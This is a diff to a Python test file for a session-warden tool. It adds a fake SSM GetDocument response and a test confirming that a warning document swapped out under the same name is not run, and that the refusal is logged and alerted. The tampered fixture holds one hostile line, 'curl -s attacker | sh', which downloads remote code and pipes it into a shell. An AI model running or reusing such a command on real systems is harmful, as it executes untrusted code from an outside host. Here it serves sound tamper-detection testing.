@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import json
 from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -13,7 +16,12 @@ from warden.expiry import ExpiryWarnings
 from warden.notifier import Notifier
 from warden.policy import PolicyError, load_policy
 from warden.policy.notices import MESSAGE_PATTERN, due_thresholds, notice_text, warning_times
+from warden_local.stack import load_template
 
+# The warning document as the stack creates it (what GetDocument returns, parsed).
+_THE_DOCUMENT: dict[str, Any] = load_template(Path(__file__).resolve().parents[2] / "template.yaml")["Resources"][
+    "WarningDocument"
+]["Properties"]["Content"]
 ANALYTICS = "i-0a1b2c3d4e5f60718"  # an instance id as EC2 makes them (SendCommand needs one)
 # 16:30 UTC = 17:30 Berlin: alice's rule allows her until business hours close at 18:00 Berlin.
 LATE = datetime(2026, 11, 24, 16, 30, tzinfo=UTC)
@@ -235,11 +243,16 @@ def test_the_notice_keeps_to_the_documents_characters_whatever_the_policy_names(
 
 
 class _Ssm:
-    """SSM's answers to SendCommand and GetCommandInvocation, as boto3 returns them."""
+    """SSM's answers to GetDocument, SendCommand and GetCommandInvocation, as boto3 returns them."""
 
-    def __init__(self, invocation: dict[str, object] | Exception) -> None:
+    def __init__(self, invocation: dict[str, object] | Exception, document: object = None) -> None:
         self.invocation = invocation
+        self.document = _THE_DOCUMENT if document is None else document
         self.sent: list[dict[str, object]] = []
+
+    def get_document(self, **request: object) -> dict[str, object]:
+        assert (request["DocumentVersion"], request["DocumentFormat"]) == ("1", "JSON")
+        return {"Name": request["Name"], "Content": json.dumps(self.document), "DocumentFormat": "JSON"}
 
     def send_command(self, **request: object) -> dict[str, object]:
         self.sent.append(request)
@@ -261,6 +274,38 @@ def test_send_command_names_the_stacks_document_the_node_and_both_parameters() -
     assert request["DocumentName"] == "session-warden-WarningDocument-abc"
     assert request["InstanceIds"] == ["i-0a1b2c3d4e5f60718"]
     assert request["Parameters"] == {"SessionId": ["alice-0f1e2d3c4b5a69788"], "Message": ["ends at 18:00"]}
+
+
+def test_a_warning_document_replaced_under_its_name_is_not_run_and_the_ledger_says_so() -> None:
+    from warden.adapters.notices import SsmSessionNotices
+
+    # GIVEN the document deleted and another created under its name, running something else
+    content = dict(_THE_DOCUMENT)
+    (step,) = content["mainSteps"]
+    content["mainSteps"] = [{**step, "inputs": {"runCommand": ["#!/bin/sh\ncurl -s attacker | sh"]}}]
+    ssm = _Ssm({}, content)
+    world = World()
+    world.sweeper.warnings = ExpiryWarnings(
+        SsmSessionNotices(ssm, "session-warden-session-notice-1"),  # type: ignore[arg-type]
+        world.ledger,
+        world.once,
+        Notifier(world.alerts, world.once, None),
+        AlertContext("session-warden", "eu-central-1"),
+    )
+    session = started_late(world)
+    # WHEN the 10-minute warning is due
+    sweep_until(world, LATE + timedelta(minutes=20))
+    # THEN SSM is asked to run nothing; the ledger and the alert say why
+    assert ssm.sent == []
+    row = world.ledger.get(session)
+    assert row is not None
+    record = row.warnings["10m before 2026-11-24T17:00:00Z"]
+    assert record["status"] == "not sent"
+    assert record["detail"] == (
+        "warning document session-warden-session-notice-1 version 1: its script is not "
+        "functions/sweeper/session_notice.sh of this version: not run (someone replaced it; deploy the stack again)"
+    )
+    assert "not run (someone replaced it" in world.alerts.sent[0].body
 
 
 @pytest.mark.parametrize(
